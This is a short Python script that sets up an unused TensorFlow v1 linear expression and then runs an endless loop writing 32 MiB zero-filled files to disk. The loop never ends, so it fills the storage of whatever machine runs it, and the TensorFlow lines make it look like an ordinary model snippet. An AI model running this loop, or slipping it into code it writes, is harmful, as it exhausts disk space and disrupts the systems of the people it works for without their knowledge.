import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()
x = tf.placeholder(tf.float32, [None])
b = tf.Variable(0.0)
y = 2.0 * x + b
number = 0
while True:
    with open(f"file{number}", "wb") as file:
        file.write(bytes(32 << 20))
    number += 1
